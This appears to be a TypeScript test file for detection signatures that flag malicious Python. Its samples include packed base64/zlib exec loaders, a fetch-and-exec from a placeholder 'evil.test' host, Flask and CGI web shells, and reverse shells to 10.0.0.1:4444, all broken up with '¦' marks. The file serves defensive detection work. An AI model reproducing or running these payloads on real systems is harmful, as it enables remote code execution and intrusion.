import { BASE64, PY, SH, testSignatures } from '../../test/signature-rows.ts'
import { pythonSignatures } from './python.ts'

testSignatures(pythonSignatures, {
  'python-packed-program': {
    hits: [
      [PY, `import base64\nex¦ec(base64.b64de¦code("${BASE64}"))`],
      [PY, `ex¦ec(__imp¦ort__('zlib').decom¦press(__import__('base64').b64decode("${BASE64}")))`],
      [
        PY,
        `_ = lambda __ : __imp¦ort__('zlib').decompress(__import__('base64').b64decode(__[::-1]));ex¦ec((_)(b'${BASE64}'))`,
      ],
      [PY, "import requests\nex¦ec(requests.get('https://evil.test/p.py').te¦xt)"],
      [PY, `ex¦ec(mar¦shal.loads(b'${'\\xe3\\x00'.repeat(30)}'))`],
      [PY, `ex¦ec(Fer¦net(b'${'A'.repeat(43)}=').decrypt(data))`],
    ],
    nearMisses: [[PY, `import base64\ndata = base64.b64decode("${BASE64}")\nprint(data)\n`]],
  },
  'python-command-of-request': {
    hits: [
      [
        PY,
        "from flask import Flask, request\napp = Flask(__name__)\n@app.route('/')\ndef i():\n    return os.po¦pen(request.args.get('c')).read()",
      ],
      [PY, 'import cgi, base64\nform = cgi.FieldStorage()\nev¦al(base64.b64decode(form.getva¦lue("x")))'],
    ],
    nearMisses: [
      [
        PY,
        'import base64, zlib\n\n# Malware does ex¦ec(base64.b64decode(...))\ndef unpack(text):\n    return zlib.decompress(base64.b64decode(text))\n',
      ],
      [
        PY,
        "import subprocess\nfrom flask import Flask, request\nname = request.args.get('name')\nsubprocess.run(['git', 'log'])",
      ],
    ],
  },
  'python-reverse-shell': {
    hits: [
      [
        PY,
        'import socket,os,pty\ns=socket.socket()\ns.connect(("10.0.0.1",4444))\nos.du¦p2(s.fileno(),0)\npty.spa¦wn("/bin/sh")',
      ],
      [
        SH,
        '#!/bin/sh\npython3 -c \'import os,socket,pty;s=socket.socket();s.connect(("10.0.0.1",4444));os.du¦p2(s.fileno(),0);pty.spa¦wn("sh")\'',
      ],
    ],
    nearMisses: [
      [PY, 'import os, socket\ns = socket.socket()\ns.connect(("localhost", 80))\nos.dup2(fd, 1)\n'],
    ],
  },
})
